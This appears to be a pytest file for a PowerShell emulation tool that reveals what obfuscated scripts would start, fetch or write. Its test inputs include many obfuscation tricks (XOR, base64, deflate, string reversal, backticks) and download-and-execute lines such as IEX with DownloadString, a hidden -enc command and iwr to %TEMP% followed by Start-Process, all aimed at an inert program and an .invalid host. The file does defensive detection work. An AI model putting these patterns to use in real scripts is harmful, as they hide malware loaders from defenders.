"""PowerShell, evaluated: what command lines and scripts come to, whatever they hide it behind."""

import base64
import zlib

import pytest

from emotriage.emulation.powershell.run import run
from emotriage.emulation.script import unfold
from emotriage.model.limits import Budget, Limits

ADDRESS = "http://a.emotriage.invalid/x"
LOAD = f"(New-Object Net.WebClient).DownloadString('{ADDRESS}')"
START = "Start-Process emotriage-inert"
ENCODED = base64.b64encode(f"IEX {LOAD}".encode("utf-16-le")).decode()
CODES = ",".join(str(ord(one)) for one in START)
MASKED = ",".join(str(ord(one) ^ 35) for one in START)
BYTES = base64.b64encode(bytes(ord(one) ^ 7 for one in START)).decode()
PLAIN = base64.b64encode(START.encode()).decode()


def packed(text: str) -> str:
    """A text as base64 of a deflate stream."""
    stream = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(stream.compress(text.encode()) + stream.flush()).decode()


def effects(text: str) -> list[tuple[str, str]]:
    """What a script would start, fetch and write."""
    return [(one.kind, one.what) for one in run(text, Budget(Limits())).effects if one.kind != "object"]


@pytest.mark.parametrize(
    "text",
    [
        START,
        f'powershell -c "{START}"',
        "&('{1}{0}' -f 'ex','i') (\"{0}{1}\" -f 'Start-Process ','emotriage-inert')",
        f"$a='{CODES}'.split(','); iex (-join ($a | % {{ [char][int]$_ }}))",
        f"[char[]]({CODES}) -join '' | iex",
        f"-join ([char[]]({CODES})) | &( $env:ComSpec[4,26,25]-Join'')",
        f".($PSHome[21]+$PSHome[30]+'x') ([string]::join('', ( ({MASKED}) |%{{ [char]($_ -bxor 35) }})))",
        "& ((gv '*mdr*').Name[3,11,2]-join'') (('tratS'[-1..-5] -join '') + '-Process emotriage-inert')",
        f"iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{PLAIN}')))",
        (
            "IEX (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream]"
            f"[Convert]::FromBase64String('{packed(START)}'),[IO.Compression.CompressionMode]::Decompress)),"
            "[Text.Encoding]::ASCII)).ReadToEnd()"
        ),
        "sal z Invoke-Expression; z(('Start-ZZZcess emotriage-inert').Replace('ZZZ','Pro'))",
        (
            "function q($k,$v){ $r=''; foreach($c in $v){ $r += [char]($c -bxor $k) }; return $r }; "
            f"iex (q 35 @({MASKED}))"
        ),
        "$h=@{a='Start-Pro';b='cess emotriage-inert'}; iex ($h.a+$h['b'])",
        f"Set-Variable q '{START}'; iex (gv q).Value",
        f"set-item variable:zz '{START}'; & (gcm *ke-e*n) (ls variable:zz).Value",
        "('Start-PrQcess emotriage-inert' -replace 'Q','o') | iex",
        "$w=('s'+'tart'); &$w emotriage-inert",
        "${a b} = 'Start-Process'; . ${a b} emotriage-inert",
        "iex ([regex]::Replace('treni-egairtome ssecorP-tratS','.','$0','RightToLeft'))",
        f"[scriptblock]::Create('{START}').Invoke()",
        (
            f"$b=[Convert]::FromBase64String('{BYTES}'); for($i=0;$i -lt $b.Count;$i++){{ $b[$i] = $b[$i] -bxor 7 }}; "
            "iex ([Text.Encoding]::ASCII.GetString($b))"
        ),
        "S`tart-Pro`cess emo`triage-inert",
        "$x = \"Start$('-' + 'Process')\"; & $x \"emotriage-inert\"",
        "if ($nobody.knows -eq 3) { return } else { }; while ($false) { }; do { " + START + " } until ($true)",
        "$i = 0; while ($i -lt 3) { $i++; if ($i -eq 2) { break } }; saps ('emotriage-' + @{2='inert'}[\"$i\"])",
        "try { throw 'x' } catch { }\n" + START,
    ],
)
def test_every_disguise_comes_to_the_same(text):
    found = [what for kind, what in effects(text) if kind == "start"]
    assert found[-1] == "emotriage-inert"


@pytest.mark.parametrize(
    "switch",
    ["e", "ec", "en", "enc", "enco", "encod", "encode", "encoded", "encodedc", "EncodedCommand", "eNcOdEdCoMmAnD"],
)
def test_every_prefix_of_the_switch_is_read(switch):
    for dash in "-/\u2013":
        assert ("fetch", ADDRESS) in effects(f"powershell.exe -nop -w hidden {dash}{switch} {ENCODED}")


def test_files_that_are_fetched_and_started():
    text = f"$u='{ADDRESS}'[-1..-99] -join ''; $u=$u[-1..-99] -join ''; iwr $u -OutFile $env:temp\\inert.exe"
    assert effects(f"{text}; saps $env:temp\\inert.exe") == [
        ("fetch", ADDRESS),
        ("write", "%TEMP%\\inert.exe"),
        ("start", "%TEMP%\\inert.exe"),
    ]


def test_both_sides_of_what_nobody_knows_are_followed():
    text = "if ((Get-Date).Year -gt 3) { saps one-inert } else { saps two-inert }; saps three-inert"
    assert [what for _, what in effects(text)] == ["one-inert", "two-inert", "three-inert"]


@pytest.mark.parametrize("quote", ["", '"'])
def test_a_quotation_mark_may_stay_open(quote):
    line = f"powershell \"('Start-Process emot'+'riage-inert') | .('ie'+'x'){quote}"
    assert any(one.text == START for one in unfold(line, Budget(Limits())).layers)


def test_a_command_line_is_unfolded_layer_by_layer():
    layers = unfold(f"-nop -w hidden -enc {ENCODED}", Budget(Limits())).layers
    assert any(LOAD in one.text for one in layers)
    line = f"powershell iex (-join (({MASKED}) | % {{ [char]($_ -bxor 35) }}))"
    assert any(one.text == START and "powershell" in one.steps for one in unfold(line, Budget(Limits())).layers)


@pytest.mark.parametrize(
    "unit", [("(", ")"), ("$(", ")"), ("@{a=", "}"), ("{", "}"), ("!", ""), ("[char]", ""), ('"$(', ')"')]
)
@pytest.mark.parametrize("depth", [5, 20_000])
def test_no_depth_is_too_deep(unit, depth):
    assert run(unit[0] * depth + "1" + unit[1] * depth, Budget(Limits())).layers


@pytest.mark.parametrize(
    "text",
    [
        "while ($true) { }",
        "for (;;) { $x += 'a' * 1000 }",
        "function f { f }; f",
        "$x = 'iex $x'; iex $x",
        "$x = 'a'; for (;;) { $x += $x }",
        "'a' * 999999999; 1..999999999; @(1) * 1e18",
        "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' -replace '(a+)+$', 'b'; 'x' -match '('; '{9}' -f 1; '{0:x2}' -f 'z'",
        "[char]99999999999; [int]'x'; [byte[]]'x'; [Convert]::ToInt32('zz', 16); [Convert]::FromBase64String('%')",
        "$a[1][2].b.c(3); $null.x(); (1).y; @()[0]; @{}['a']; ''[5]; (,1)[-9]",
        ")}]|&;$(@{`\"'<#",
        "\0\x01\ufeff\u2018\u201c",
        "1 % 0; 1 / 0; 5 -shl -1; 'a'.Substring(9, -4); 'a'.Remove(-1, 5); 'a'.Insert(9)",
        "powershell powershell powershell -c powershell -c x",
    ],
)
def test_any_text_ends(text):
    run(text, Budget(Limits()))


def test_work_grows_with_the_text():
    spent = []
    for size in (500, 1000):
        budget = Budget(Limits())
        run("$a = 'x' + \"y$b\"; if ($a -eq 1) { Write-Host $a @(1, 2) } # z\n" * size, budget)
        spent.append(budget.work)
    assert spent[1] < 2.5 * spent[0]
